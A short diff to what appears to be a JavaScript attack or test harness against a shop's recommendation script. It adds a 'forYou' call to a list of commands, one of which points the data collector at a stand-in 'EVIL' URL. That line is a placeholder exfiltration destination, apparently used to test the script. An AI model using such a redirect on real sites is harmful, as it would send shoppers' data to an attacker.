@@ -28,6 +28,7 @@ const attack = async (attempts) => {
     'call init (evil collector)': () => p('call', 'init', { collectorUrl: EVIL }),
     'call flush': () => p('call', 'flush'),
     'call recommend': () => p('call', 'recommend'),
+    'call forYou': () => p('call', 'forYou', 20),
     'call forgetItem': () => p('call', 'forgetItem', 'LAMP-1'),
   };
   // Read before any command: the script acts outside any click of the shopper's.
